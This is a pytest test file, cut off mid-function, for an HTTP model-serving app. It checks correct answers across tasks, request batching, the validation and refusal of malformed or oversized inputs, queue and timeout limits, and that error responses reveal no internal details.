"""A served model: right answers for everybody, clear refusals, limits, and an end that loses nothing."""

from __future__ import annotations

import asyncio
import base64
import html
import io
import itertools
import json
import os
import random
import re
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
import weakref
from collections import Counter
from contextlib import contextmanager, suppress
from dataclasses import replace
from importlib.metadata import metadata, requires, version

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from packaging.requirements import Requirement
from packaging.utils import canonicalize_name
from typer.testing import CliRunner

from autoft.artifact import Manifest, load, save_artifact
from autoft.cli import app as command
from autoft.errors import DataError, ServingError
from autoft.testing.values import difference
from autoft.testing.workbench import TOLERANCE, Workbench

pytest.importorskip("fastapi")
httpx = pytest.importorskip("httpx")
uvicorn = pytest.importorskip("uvicorn")

from autoft.serving import Limits, make_app, serve  # noqa: E402
from autoft.serving.batching import Batcher, Closed, Failure, QueueFull  # noqa: E402
from autoft.serving.connections import timed_protocol  # noqa: E402

TASKS = (
    "generation",
    "image-captioning",
    "medical-qa-choice",
    "medical-qa-extractive",
    "medical-qa-free",
    "medical-qa-yes-no",
    "question-answering",
    "summarization",
    "text-classification",
    "token-classification",
    "translation",
)
SECONDS = 120
"""Nothing here takes so long: what does hangs."""


@pytest.fixture(scope="session")
def shelf(tmp_path_factory, catalog):
    """Tiny models of tasks as artifacts, by the task's name, each made once."""
    folder = tmp_path_factory.mktemp("served")

    def model(name, **options):
        place = folder / name
        if not place.is_dir():
            bench = Workbench(catalog.task(name), catalog)
            if "max_new_tokens" in bench.options:
                bench.options["max_new_tokens"] = 6
            bench.options |= options
            save_artifact(place, bench.load_model(), bench.target, writer=None, variant="none", objective="")
        return load(place, catalog=catalog)

    return model


@pytest.fixture(scope="session")
def classifier(shelf):
    return shelf("text-classification")


@pytest.fixture(scope="session")
def pair_classifier(shelf, catalog, tmp_path_factory):
    """A classifier of text pairs."""
    bench = Workbench(catalog.task("text-classification"), catalog)
    bench.made["demo"] = [{**row, "text_pair": row["text"]} for row in bench.task.demo_rows()]
    folder = tmp_path_factory.mktemp("pair")
    save_artifact(folder, bench.load_model(), bench.target, writer=None, variant="none", objective="")
    return load(folder, catalog=catalog)


def talk(app, go):
    """Run a conversation with an application in this process."""

    async def run():
        transport = httpx.ASGITransport(app, raise_app_exceptions=False)
        async with (
            app.router.lifespan_context(app),
            httpx.AsyncClient(transport=transport, base_url="http://test", timeout=SECONDS) as client,
        ):
            return await asyncio.wait_for(go(client), SECONDS)

    return asyncio.run(run())


def ask(app, body, **headers):
    """Return the answer to one request; a body of another type than bytes is sent as JSON."""
    content = body if isinstance(body, bytes) else json.dumps(body).encode()
    headers = {"content-type": "application/json", **headers}
    return talk(app, lambda client: client.post("/predict", content=content, headers=headers))


def sentences(count, seed=0):
    rng = random.Random(seed)
    words = [
        "film",
        "script",
        "cast",
        "joke",
        "scene",
        "warm",
        "flat",
        "noise",
        "idea",
        "quiet",
        "money",
        "again",
        "never",
        "superb",
    ]
    return [" ".join(rng.choices(words, k=rng.randint(1, 25))) for _ in range(count)]


@contextmanager
def held(model):
    """Yield a model that answers only once an event is set, and the event."""
    gate = threading.Event()
    gate.set()

    class Held(type(model.task)):
        def predict(self, *args, **kwargs):
            assert gate.wait(SECONDS)
            return super().predict(*args, **kwargs)

    try:
        yield replace(model, task=Held()), gate
    finally:
        gate.set()


# ---------------------------------------------------------------------------------------------------- answers


@pytest.mark.parametrize("name", TASKS)
def test_every_task_is_served_with_its_own_fields_and_says_what_predict_says(name, shelf):
    from fastapi.openapi.models import OpenAPI

    model = shelf(name)
    app = make_app(model)

    async def go(client):
        schema = (await client.get("/openapi.json")).json()
        content = schema["paths"]["/predict"]["post"]["requestBody"]["content"]["application/json"]
        bodies = [example["value"] for example in content["examples"].values()]
        return schema, bodies, [await client.post("/predict", json=body) for body in bodies]

    schema, bodies, answers = talk(app, go)
    OpenAPI.model_validate(schema)
    assert len(bodies) >= 3
    for body, answer in zip(bodies, answers, strict=True):
        assert answer.status_code == 200, answer.text
        rows = body.get("rows", [body])
        given = [{k: base64.b64decode(v) if k == "image" else v for k, v in row.items()} for row in rows]
        wanted = [model.predict([row])[0] for row in given]
        said = answer.json()
        assert difference(said["predictions"] if "rows" in body else [said], wanted, TOLERANCE) is None
    parts = schema["components"]["schemas"]
    roles = {column.role for column in model.task.inputs(model.context)}
    assert set(parts["Row"]["properties"]) == roles
    assert all(part["description"] for part in parts["Row"]["properties"].values())
    assert set(answers[0].json()) <= set(parts["Prediction"]["properties"])
    references = re.findall(r'"\$ref": "([^"]+)"', json.dumps(schema))
    assert {reference.removeprefix("#/components/schemas/") for reference in references} <= set(parts)


def test_labels_are_listed_in_the_description(classifier):
    schema = talk(make_app(classifier), lambda client: client.get("/openapi.json")).json()
    properties = schema["components"]["schemas"]["Prediction"]["properties"]
    assert properties["label"]["enum"] == ["negative", "positive"]
    assert properties["scores"]["items"]["type"] == "number"


def test_a_task_that_does_not_describe_its_predictions_shows_what_demo_rows_got(catalog, tmp_path):
    from autoft.testing.probe import Praise

    bench = Workbench(Praise(), catalog)
    save_artifact(tmp_path / "m", bench.load_model(), bench.target, writer=None, variant="none", objective="")
    app = make_app(load(tmp_path / "m", catalog=bench.catalog))
    schema = talk(app, lambda client: client.get("/openapi.json")).json()
    properties = schema["components"]["schemas"]["Prediction"]["properties"]
    assert {name: part["type"] for name, part in properties.items()} == {"label": "string", "score": "number"}


def test_concurrent_requests_of_all_sizes_get_their_own_answers_from_common_batches(classifier):
    texts = sentences(120)
    alone = {text: classifier.predict([text])[0] for text in texts}
    assert len({round(answer["score"], 6) for answer in alone.values()}) > 100
    rng = random.Random(1)
    bodies = [{"text": text} for text in texts[:40]]
    bodies += [{"rows": [{"text": text} for text in rng.sample(texts, rng.randint(1, 12))]} for _ in range(20)]
    bodies += [{"rows": [{"text": texts[0]}, {"txet": texts[1]}]}, {"text": 3}, {"rows": []}] * 5
    rng.shuffle(bodies)

    async def go(client):
        answers = await asyncio.gather(*(client.post("/predict", json=body) for body in bodies))
        return answers, await client.get("/metrics")

    answers, metrics = talk(make_app(classifier, Limits(batch_size=16, wait=0.02)), go)
    rows = 0
    for body, answer in zip(bodies, answers, strict=True):
        texts_of = [row.get("text") for row in body.get("rows", [body])]
        if not all(isinstance(text, str) for text in texts_of) or not texts_of:
            assert answer.status_code == 422
            continue
        assert answer.status_code == 200
        said = answer.json()["predictions"] if "rows" in body else [answer.json()]
        assert difference(said, [alone[text] for text in texts_of], TOLERANCE) is None
        rows += len(texts_of)
    figures = dict(re.findall(r"^(autoft_\w+(?:\{[^}]*\})?) ([\d.]+)$", metrics.text, re.MULTILINE))
    assert float(figures["autoft_rows_total"]) == rows == float(figures["autoft_batch_rows_sum"])
    assert float(figures["autoft_batch_rows_count"]) < rows / 4
    assert float(figures['autoft_requests_total{status="200"}']) == 60
    assert float(figures['autoft_requests_total{status="422"}']) == 15
    assert float(figures["autoft_waiting_rows"]) == 0
    # What has not happened yet is told, too.
    assert float(figures['autoft_requests_total{status="504"}']) == 0


def test_a_row_that_the_task_refuses_harms_no_neighbour(shelf):
    model = shelf("token-classification")
    good = [{"text": "Ada was born in London"}, {"tokens": ["Oslo", "is", "cold"]}]
    bodies = [good[0], {}, good[1], {"rows": [good[0], {}, good[1], {}]}]

    async def go(client):
        return await asyncio.gather(*(client.post("/predict", json=body) for body in bodies))

    first, bad, second, mixed = talk(make_app(model, Limits(wait=0.1)), go)
    assert [first.json(), second.json()] == model.predict(good)
    assert bad.status_code == mixed.status_code == 422
    assert bad.json()["detail"] == "needs 'tokens', a list of words, or 'text'; given neither"
    assert [error["field"] for error in mixed.json()["errors"]] == ["rows[1]", "rows[3]"]


def test_a_model_of_text_pairs_asks_for_both_texts(pair_classifier, classifier):
    app = make_app(pair_classifier)
    assert ask(app, {"text": "a film", "text_pair": "a scene"}).status_code == 200
    lacking = ask(app, {"text": "a film"})
    assert (lacking.status_code, lacking.json()["errors"][0]["field"]) == (422, "text_pair")
    # One that was trained on single texts would ignore the second in silence.
    assert ask(make_app(classifier), {"text": "a film", "text_pair": "a scene"}).status_code == 422


class Sociable:
    """What it says of a row depends on how many others there are, as quantization by the range of a batch does."""

    def predict(self, model, rows, context, batch_size=32):
        said = super().predict(model, rows, context, batch_size)
        return [{**one, "score": one["score"] / len(rows[:batch_size])} for one in said]


def test_rows_whose_company_changes_their_answer_are_predicted_one_by_one(classifier):
    task = type("Whole", (Sociable, type(classifier.task)), {})()
    sociable = replace(classifier, task=task)
    texts = sentences(20)
    alone = [sociable.predict([text])[0] for text in texts]

    def scores(limits):
        app = make_app(sociable, limits)
        rows = {"rows": [{"text": text} for text in texts]}
        return app.state.batch_size, ask(app, rows).json()["predictions"]

    size, said = scores(Limits())
    assert size == 1
    assert difference(said, alone, TOLERANCE) is None
    # Who asks for batches gets them.
    size, said = scores(Limits(batch_size=20))
    assert size == 20
    assert said[0]["score"] == pytest.approx(alone[0]["score"] / 20, rel=1e-3)
    assert make_app(classifier).state.batch_size > 1


NAN, INF = float("nan"), float("inf")


@pytest.mark.parametrize(
    ("one", "other", "apart"),
    [
        ([{"score": 0.5, "label": "a"}], [{"score": 0.25, "label": "a"}], 0.25),
        ([{"score": 0.5, "label": "a"}], [{"score": 0.5, "label": "b"}], INF),
        ([{"scores": [NAN, INF, 0.1]}], [{"scores": [NAN, INF, 0.1]}], 0),
        ([{"scores": [NAN, 0.1]}], [{"scores": [0.2, 0.1]}], INF),
        ([{"scores": [0.1, 0.2]}], [{"scores": [0.1, NAN]}], INF),
        ([{"score": 0.5}], [], INF),
        ([{"score": 0.5}], [{"score": 0.5, "more": 1}], INF),
    ],
)
def test_predictions_are_as_far_apart_as_their_numbers(one, other, apart):
    from autoft.serving.fields import _difference

    assert _difference(one, other) == apart


def test_whoever_starts_a_server_is_told_of_company_and_of_other_machines():
    from autoft.serving.server import Address

    common = {"url": "http://x", "example": "curl", "title": "t"}
    assert Address(loopback=True, batch_size=32, company=0.001, **common).warnings == ()
    both = Address(loopback=False, batch_size=1, company=0.2, **common).warnings
    assert [re.search("password|one by one", warning)[0] for warning in both] == ["password", "one by one"]
    assert "other company" in Address(loopback=True, batch_size=8, company=float("inf"), **common).warnings[0]


# --------------------------------------------------------------------------------------------------- refusals

TINY = Limits(rows=3, characters=40, body=2_000)
DEEP = b'{"text":' + b"[" * 100_000 + b"]" * 100_000 + b"}"


@pytest.mark.parametrize(
    ("body", "status", "says"),
    [
        (b"", 400, "is not JSON"),
        (b"{", 400, "is not JSON"),
        (b'{"text": "a"} x', 400, "is not JSON"),
        (b"\xff\xfe\x00", 400, "is not JSON"),
        (b'{"text": NaN}', 400, "is not JSON"),
        (b'{"text": "\\ud800"}', 400, "is not JSON"),
        (b"[]", 400, "has to be a JSON object"),
        (b'"a text"', 400, "has to be a JSON object"),
        (b"null", 400, "has to be a JSON object"),
        ({}, 422, "text: is missing"),
        ({"text": None}, 422, "text: has to be a valid string"),
        ({"text": 3}, 422, "text: has to be a valid string"),
        ({"text": ["a"]}, 422, "text: has to be a valid string"),
        ({"txt": "a"}, 422, "txt: is no field of a row; did you mean 'text'?"),
        ({"text": "a", "label": "positive"}, 422, "label: is no field of a row"),
        ({"text": "a" * 41}, 422, "text: string should have at most 40 characters"),
        ({"rows": []}, 422, "rows: list should have at least 1 item"),
        ({"rows": {}}, 422, "rows: has to be a valid list"),
        ({"rows": "a"}, 422, "rows: has to be a valid list"),
        ({"rows": ["a"]}, 422, "rows[0]: has to be an object"),
        ({"rows": [{"text": "a"}, {"text": 1}]}, 422, "rows[1].text: has to be a valid string"),
        ({"rows": [{"text": "a"}], "more": 1}, 422, "more: is not allowed beside 'rows'"),
        ({"rows": [{"text": "a"}] * 4}, 413, "rows: holds 4 rows; a request may have 3"),
        ({"text": "a" * 3_000}, 413, "the body has more than 2000 bytes"),
    ],
    ids=str,
)
def test_a_malformed_request_is_told_what_is_wrong(body, status, says, classifier):
    answer = ask(make_app(classifier, TINY), body)
    assert (answer.status_code, says in answer.json()["detail"]) == (status, True), answer.text
    assert (status == 422) == bool(answer.json().get("errors")) or status == 413


def test_entries_without_characters_count_too(shelf):
    tagger = shelf("token-classification")
    assert ask(make_app(tagger, TINY), {"tokens": ["a"] * 40}).status_code == 200
    for entry in ("", 1):
        answer = ask(make_app(tagger, TINY), {"tokens": [entry] * 41})
        assert (answer.status_code, "holds more than 40 characters" in answer.json()["detail"]) == (422, True), (
            answer.text
        )


def test_json_of_any_depth_is_refused(classifier):
    assert ask(make_app(classifier), DEEP).status_code in {400, 422}


@pytest.mark.parametrize(
    ("kind", "value"),
    [
        ("tokens", [[]] * 50_000),
        ("tokens", [[]] * 200_000),
        ("options", {str(n): [] for n in range(9_000)}),
        ("options", [{}] * 50_000),
        ("texts", [1] * 50_000),
        ("passage", {"contexts": [1] * 50_000}),
        ("labels", [None] * 50_000),
        ("messages", [1] * 50_000),
    ],
)
def test_of_a_value_with_many_faults_the_first_is_looked_for(kind, value):
    from pydantic import TypeAdapter, ValidationError

    from autoft.contracts import Column
    from autoft.serving.fields import _input_type

    types = TypeAdapter(_input_type(Column("it", kind, "a column"), Limits()))
    with pytest.raises(ValidationError) as caught:
        types.validate_python(value, strict=True)
    # One for each type that the value, or its first entry, might have had.
    assert caught.value.error_count() <= 8


def test_unknown_fields_are_told_up_to_a_point(classifier):
    app = make_app(classifier)

    def told(body):
        return [error["message"] for error in ask(app, body).json()["errors"]]

    few, many = ({"text": "a", **{f"k{n}": 1 for n in range(count)}} for count in (50, 5_000))
    assert len(told(few)) == len(told({"rows": [few]})) == 50
    assert len(told({"rows": [few] * 2})) == 100
    assert (len(told({"rows": [few] * 3})), told({"rows": [few] * 3})[-1][:21]) == (101, "there are more faults")
    assert told(many) == told({"rows": [few, many]}) == ["has 5001 fields; a row may have 1"]
    assert told({"rows": [few], **many}) == ["has 5002 fields; a row may have 1"]


def test_a_body_without_a_length_is_counted_as_it_comes(classifier):
    async def parts():
        for _ in range(100):
            yield b" " * 100

    headers = {"content-type": "application/json"}
    answer = talk(make_app(classifier, TINY), lambda client: client.post("/predict", content=parts(), headers=headers))
    assert answer.status_code == 413


@pytest.mark.parametrize(
    "kind", ["", "text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x"]
)
def test_forms_of_other_web_sites_are_refused(kind, classifier):
    answer = talk(
        make_app(classifier),
        lambda client: client.post("/predict", content=b'{"text": "a"}', headers={"content-type": kind}),
    )
    assert answer.status_code == 415
    assert "application/json" in answer.json()["detail"]


def test_other_addresses_and_methods_are_told(classifier):
    async def go(client):
        return [await client.get(path) for path in ("/nothing", "/predict", "/docs", "/health/")]

    nothing, method, docs, slash = talk(make_app(classifier), go)
    assert [nothing.status_code, method.status_code, docs.status_code, slash.status_code] == [404, 405, 404, 404]
    assert "POST /predict" in nothing.json()["detail"]
    assert method.headers["allow"] == "POST"


@pytest.mark.parametrize("path", ["/health", "/"])
def test_a_load_balancer_may_ask_by_head(path, classifier):
    assert talk(make_app(classifier), lambda client: client.head(path)).status_code == 200


def picture(width=8, height=8, kind="PNG"):
    from PIL import Image

    content = io.BytesIO()
    Image.new("RGB", (width, height), "red").save(content, kind)
    return base64.b64encode(content.getvalue()).decode()


def test_images_come_as_base64_and_never_as_a_path(shelf, tmp_path):
    model = shelf("image-captioning")
    app = make_app(model, Limits(pixels=100))
    file = tmp_path / "secret.png"
    file.write_bytes(base64.b64decode(picture()))
    good = [picture(), "data:image/png;base64," + picture(), picture(kind="JPEG"), picture(kind="GIF")]
    for content in good:
        assert ask(app, {"image": content}).status_code == 200
    bad = {
        str(file): "in base64",
        f"file://{file}": "in base64",
        "data:image/png,abc": "has to be base64",
        base64.b64encode(b"no picture").decode(): "is no image of a known format",
        base64.b64encode(b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 1 1\n").decode(): "is no image",
        picture(11, 10): "the image has 11 x 10 pixels; 100 are allowed",
    }
    for content, says in bad.items():
        answer = ask(app, {"image": content})
        assert (answer.status_code, answer.json()["errors"][0]["field"]) == (422, "image")
        assert says in answer.json()["detail"]
        assert str(tmp_path) not in answer.text
    cut = base64.b64encode(base64.b64decode(picture(10, 10))[:-30]).decode()
    mixed = ask(app, {"rows": [{"image": picture()}, {"image": cut}]})
    assert mixed.status_code == 422
    assert mixed.json()["errors"][0]["field"] == "rows[1]"


def test_a_failing_model_is_told_without_its_reasons(classifier, caplog):
    class Failing(type(classifier.task)):
        def predict(self, model, rows, context, batch_size=32):
            if any("poison" in row["text"] for row in rows):
                raise RuntimeError("secret: /srv/models/weights.bin")
            if any("hunger" in row["text"] for row in rows):
                raise MemoryError
            return super().predict(model, rows, context, batch_size)

    app = make_app(replace(classifier, task=Failing()), Limits(wait=0.1))
    bodies = [{"text": "a film"}, {"text": "poison"}, {"text": "hunger"}, {"rows": [{"text": "a"}, {"text": "poison"}]}]

    async def go(client):
        return await asyncio.gather(*(client.post("/predict", json=body) for body in bodies))

    good, poison, hunger, mixed = talk(app, go)
    assert [good.status_code, poison.status_code, hunger.status_code, mixed.status_code] == [200, 500, 503, 500]
    assert difference(good.json(), classifier.predict(["a film"])[0], TOLERANCE) is None
    assert hunger.headers["retry-after"]
    assert "rows[1]" in mixed.json()["detail"]
    for answer in (poison, hunger, mixed):
        assert not re.search("secret|srv|Traceback|RuntimeError", answer.text)
    assert "secret" in caplog.text


class Deranged:
    """A model that fails on some rows, or on any two of them."""

    fails = staticmethod(lambda rows: True)

    def predict(self, model, rows, context, batch_size=32):
        if self.fails(rows):
            raise RuntimeError("no kernel for this device")
        return super().predict(model, rows, context, batch_size)


def deranged(model, fails):
    task = type("Failing", (Deranged, type(model.task)), {"fails": staticmethod(fails)})()
    return replace(model, task=task)


def test_a_model_that_fails_on_demo_rows_is_served_without_these(classifier):
    demo = [row["text"] for row in classifier.task.demo_rows()]
    app = make_app(deranged(classifier, lambda rows: rows[0]["text"] == demo[1]))

    async def go(client):
        schema = (await client.get("/openapi.json")).json()
        examples = schema["paths"]["/predict"]["post"]["requestBody"]["content"]["application/json"]["examples"]
        return examples, [await client.post("/predict", json={"text": text}) for text in demo[:2]]

    examples, (good, bad) = talk(app, go)
    shown = [example["value"]["text"] for example in examples.values() if "text" in example["value"]]
    assert shown == [demo[0], *demo[2:4]]
    assert (good.status_code, bad.status_code) == (200, 500)
    with pytest.raises(ServingError, match="RuntimeError: no kernel for this device"):
        make_app(deranged(classifier, lambda rows: True))
    # What fails in company only is asked one row at a time.
    assert make_app(deranged(classifier, lambda rows: len(rows) > 1)).state.batch_size == 1


WORDS = st.text(max_size=12)
JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | WORDS,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(WORDS, inner, max_size=4),
    max_leaves=8,
)
FIELDS = ("text", "tokens", "rows", "tags", "label", "")
LIKELY = st.dictionaries(st.sampled_from(FIELDS), JSON, max_size=3)
BODIES = (
    st.binary(max_size=40)
    | JSON.map(lambda value: json.dumps(value).encode())
    | LIKELY.map(lambda value: json.dumps(value).encode())
    | st.lists(LIKELY, max_size=4).map(lambda rows: json.dumps({"rows": rows}).encode())
    | st.lists(st.fixed_dictionaries({"text": WORDS}), max_size=4).map(lambda rows: json.dumps({"rows": rows}).encode())
)


@pytest.mark.parametrize("name", ["text-classification", "token-classification"])
def test_no_body_makes_the_server_fail_or_hang(name, shelf):
    app = make_app(shelf(name))
    seen = Counter()

    async def go(client):
        @settings(max_examples=150, deadline=None)
        @given(BODIES)
        def bodies(body):
            found.append(body)

        found = []
        bodies()
        for start in range(0, len(found), 16):
            part = found[start : start + 16]
            headers = {"content-type": "application/json"}
            answers = await asyncio.gather(*(client.post("/predict", content=body, headers=headers) for body in part))
            for body, answer in zip(part, answers, strict=True):
                seen[answer.status_code] += 1
                assert answer.status_code in {200, 400, 422}, (body, answer.text)
                said = answer.json()
                if answer.status_code != 200:
                    assert isinstance(said["detail"], str)
                    assert "Traceback" not in answer.text
                elif "predictions" in said:
                    assert len(said["predictions"]) == len(json.loads(body)["rows"])

    talk(app, go)
    assert set(seen) == {200, 400, 422}


# ---------------------------------------------------------------------------------------- waiting, going, ending


def test_a_full_queue_says_when_to_come_back(classifier):
    with held(classifier) as (model, gate):
        app = make_app(model, Limits(batch_size=1, queue=2))
        gate.clear()

        async def go(client):
            waiting = [asyncio.create_task(client.post("/predict", json={"text": "a film"}))]
            # The first is with the model; two more fill the queue.
            while "autoft_waiting_rows 0.0" not in (await client.get("/metrics")).text:
                await asyncio.sleep(0.01)
            await asyncio.sleep(0.05)
            waiting += [asyncio.create_task(client.post("/predict", json={"text": "a film"})) for _ in range(2)]
            while (await client.get("/health")).json()["waiting"] != 2:
                await asyncio.sleep(0.01)
            refused = await client.post("/predict", json={"text": "a film"})
            gate.set()
            return refused, await asyncio.gather(*waiting)

        refused, answered = talk(app, go)
    assert refused.status_code == 503
    assert int(refused.headers["retry-after"]) >= 1
    assert [answer.status_code for answer in answered] == [200] * 3


def test_all_requests_together_hold_as_much_as_may_be(classifier):
    with held(classifier) as (model, gate):
        app = make_app(model, Limits(batch_size=1, body=3_000, bodies=5_000))
        gate.clear()
        row = {"text": "a" * 2_000}

        async def go(client):
            waiting = [asyncio.create_task(client.post("/predict", json=row)) for _ in range(2)]
            while (await client.get("/health")).json()["waiting"] != 1:
                await asyncio.sleep(0.01)
            refused = await client.post("/predict", json=row)
            small = asyncio.create_task(client.post("/predict", json={"text": "a film"}))
            while (await client.get("/health")).json()["waiting"] != 2:
                await asyncio.sleep(0.01)
            gate.set()
            answered = await asyncio.gather(*waiting, small)
            return refused, [*answered, await client.post("/predict", json=row)]

        refused, answered = talk(app, go)
    assert (refused.status_code, refused.headers["retry-after"]) == (503, "1")
    assert "too large together" in refused.json()["detail"]
    assert [answer.status_code for answer in answered] == [200] * 4
    # A request that may be as large as it is finds room by itself.
    assert ask(make_app(classifier, Limits(bodies=10)), row).status_code == 200


def test_further_requests_than_may_be_under_way_are_told_in_json(classifier, monkeypatch):
    monkeypatch.setattr("autoft.serving.app.REQUESTS", 2, raising=False)
    with held(classifier) as (model, gate):
        app = make_app(model, Limits(batch_size=1))
        gate.clear()

        async def go(client):
            waiting = [asyncio.create_task(client.post("/predict", json={"text": "a film"})) for _ in range(2)]
            while (await client.get("/health")).json()["waiting"] != 1:
                await asyncio.sleep(0.01)
            asyncio.get_running_loop().call_later(1, gate.set)
            refused = await client.post("/predict", json={"text": "a film"})
            gate.set()
            await asyncio.gather(*waiting)
            return refused, await client.post("/predict", json={"text": "a film"})

        refused, later = talk(app, go)
    assert (refused.status_code, later.status_code) == (503, 200)
    assert "too many requests are under way" in refused.json()["detail"]


def test_the_server_answers_while_a_long_body_is_parsed(classifier, monkeypatch):
    from autoft.serving import fields

    begun, answered, parse = threading.Event(), threading.Event(), fields.from_json

    def slowly(body, **options):
        begun.set()
        # The event loop would wait for this, and /health for the event loop.
        return parse(body, **options) if answered.wait(5) else {"text": "was held up"}

    monkeypatch.setattr(fields, "from_json", slowly)

    async def go(client):
        long = asyncio.create_task(
            client.post("/predict", json={"rows": [{"text": "a film " * 10_000}, {"text": "a"}]})
        )
        while not begun.is_set():
            await asyncio.sleep(0.005)
        health = await client.get("/health")
        answered.set()
        return health, await long

    health, long = talk(make_app(classifier), go)
    assert health.status_code == 200
    assert len(long.json()["predictions"]) == 2


def test_the_time_of_a_request_begins_with_its_first_byte(classifier):
    async def slow():
        await asyncio.sleep(0.3)
        yield b'{"text": "a film"}'

    with held(classifier) as (model, gate):
        app = make_app(model, Limits(timeout=0.5))
        gate.clear()

        async def go(client):
            asyncio.get_running_loop().call_later(0.65, gate.set)
            headers = {"content-type": "application/json"}
            return await client.post("/predict", content=slow(), headers=headers)

        # Where the machine is so busy that the body came too late, it is 408.
        assert talk(app, go).status_code in {408, 504}


def test_a_request_that_takes_too_long_is_told_and_its_rows_are_given_up(classifier):
    with held(classifier) as (model, gate):
        app = make_app(model, Limits(batch_size=1, timeout=0.2))
        gate.clear()

        async def go(client):
            late = await asyncio.gather(*(client.post("/predict", json={"text": text}) for text in sentences(3)))
            gate.set()
            answer = await client.post("/predict", json={"text": "a film"})
            return late, answer, await client.get("/metrics")

        late, answer, metrics = talk(app, go)
    assert [one.status_code for one in late] == [504] * 3
    # The model may still be busy with what was given up for the first of them.
    assert answer.status_code in {200, 504}
    if answer.status_code == 200:
        assert "autoft_batch_rows_sum 2.0" in metrics.text


def test_a_body_that_does_not_come_is_not_waited_for(classifier):
    async def never():
        yield b'{"text":'
        await asyncio.sleep(SECONDS)

    headers = {"content-type": "application/json"}
    answer = talk(
        make_app(classifier, Limits(timeout=0.2)),
        lambda client: client.post("/predict", content=never(), headers=headers),
    )
    assert answer.status_code == 408


def test_a_caller_who_goes_away_loses_nobody_elses_answer(classifier):
    texts = sentences(12)
    with held(classifier) as (model, gate):
        app = make_app(model, Limits(batch_size=4))
        gate.clear()

        async def go(client):
            tasks = [asyncio.create_task(client.post("/predict", json={"text": text})) for text in texts]
            while (await client.get("/health")).json()["waiting"] < 8:
                await asyncio.sleep(0.01)
            for task in tasks[::3]:
                task.cancel()
            gate.set()
            return await asyncio.gather(*tasks, return_exceptions=True)

        answers = talk(app, go)
    for i, (text, answer) in enumerate(zip(texts, answers, strict=True)):
        if i % 3 == 0:
            assert isinstance(answer, asyncio.CancelledError)
        else:
            assert difference(answer.json(), classifier.predict([text])[0], TOLERANCE) is None


class Poisoned(Exception):
    """What the model of the next tests raises."""


def squares(rows):
    """A model that squares numbers, refuses the negative ones, and breaks at 13."""
    if 13 in rows:
        raise Poisoned
    if any(row < 0 for row in rows):
        raise DataError("row 1: is below zero")
    return [{"square": row * row} for row in rows]


@given(
    jobs=st.lists(st.lists(st.integers(-2, 20), max_size=9), max_size=12),
    batch_size=st.integers(1, 8),
    wait=st.sampled_from([0.0, 0.002]),
    cancelled=st.sets(st.integers(0, 11)),
)
@settings(max_examples=60, deadline=None)
def test_rows_get_their_own_answer_whatever_shares_their_batch(jobs, batch_size, wait, cancelled):
    sizes = []

    async def go():
        batcher = Batcher(
            squares, batch_size=batch_size, wait=wait, capacity=1000, observe=lambda rows, _: sizes.append(rows)
        )
        batcher.start()
        futures = [batcher.submit(rows) for rows in jobs if rows]
        for i in cancelled & set(range(len(futures))):
            futures[i].cancel()
        await batcher.close()
        with pytest.raises(Closed):
            batcher.submit([1])
        return await asyncio.gather(*futures, return_exceptions=True)

    answers = asyncio.run(asyncio.wait_for(go(), SECONDS))
    assert max(sizes, default=0) <= batch_size
    for i, (rows, answer) in enumerate(zip([rows for rows in jobs if rows], answers, strict=True)):
        if isinstance(answer, asyncio.CancelledError):
            assert i in cancelled
            continue
        wanted = [
            Failure("model")
            if row == 13
            else Failure("row", "row 1: is below zero")
            if row < 0
            else {"square": row * row}
            for row in rows
        ]
        assert answer == wanted


def test_a_request_larger_than_the_queue_finds_room_where_nothing_waits():
    async def go():
        gate = threading.Event()
        batcher = Batcher(lambda rows: gate.wait(SECONDS) and squares(rows), batch_size=2, wait=0.0, capacity=3)
        batcher.start()
        large = batcher.submit([1, 2, 3, 4, 5])
        with pytest.raises(QueueFull):
            batcher.submit([6, 7, 8, 9])
        gate.set()
        found = await large
        await batcher.close()
        return found

    assert asyncio.run(go()) == [{"square": n * n} for n in range(1, 6)]


def test_rows_that_were_given_up_leave_room():
    async def go():
        gate = threading.Event()
        batcher = Batcher(lambda rows: gate.wait(SECONDS) and squares(rows), batch_size=1, wait=0.0, capacity=2)
        batcher.start()
        first = batcher.submit([1])
        while batcher.waiting:
            await asyncio.sleep(0.005)
        given_up = batcher.submit([2, 3])
        given_up.cancel()
        kept = batcher.submit([4, 5])
        gate.set()
        answers = await first + await kept
        await batcher.close()
        return answers

    assert asyncio.run(go()) == [{"square": n * n} for n in (1, 4, 5)]


def test_rows_that_nobody_waits_for_are_let_go_while_the_model_is_busy():
    async def go():
        gate = threading.Event()
        batcher = Batcher(lambda rows: gate.wait(SECONDS) and squares(rows), batch_size=1, wait=0.0, capacity=9)
        batcher.start()
        first = batcher.submit([1])
        while batcher.waiting:
            await asyncio.sleep(0.005)
        given_up, kept = batcher.submit([2, 3]), batcher.submit([4])
        given_up.cancel()
        await asyncio.sleep(0)
        waiting = batcher.waiting
        gate.set()
        answers = await first + await kept
        await batcher.close()
        return waiting, answers

    assert asyncio.run(go()) == (1, [{"square": 1}, {"square": 16}])


def test_a_panic_in_the_model_does_not_end_the_server():
    class Panic(BaseException):
        """As the tokenizers raise where Rust panics."""

    def predict(rows):
        if 13 in rows:
            raise Panic
        return squares(rows)

    async def go():
        batcher = Batcher(predict, batch_size=8, wait=0.0, capacity=9)
        batcher.start()
        first = await asyncio.wait_for(batcher.submit([1, 13]), 5)
        then = await asyncio.wait_for(batcher.submit([2]), 5)
        await batcher.close()
        return first, then

    assert asyncio.run(go()) == ([{"square": 1}, Failure("model")], [{"square": 4}])


def test_halves_are_tried_when_what_a_failed_batch_computed_is_freed():
    class Activations:
        pass

    kept = []

    def predict(rows):
        assert not [one for one in kept if one() is not None]
        activations = Activations()
        kept.append(weakref.ref(activations))
        if len(rows) > 1:
            raise MemoryError
        return squares(rows)

    async def go():
        batcher = Batcher(predict, batch_size=8, wait=0.0, capacity=9)
        batcher.start()
        answers = await batcher.submit([1, 2, 3, 4])
        await batcher.close()
        return answers

    assert asyncio.run(asyncio.wait_for(go(), SECONDS)) == [{"square": n * n} for n in range(1, 5)]


def test_a_model_that_does_not_come_back_does_not_keep_the_server_from_ending(caplog):
    async def go():
        gate = threading.Event()
        batcher = Batcher(lambda rows: gate.wait(SECONDS) and squares(rows), batch_size=1, wait=0.0, capacity=9)
        batcher.start()
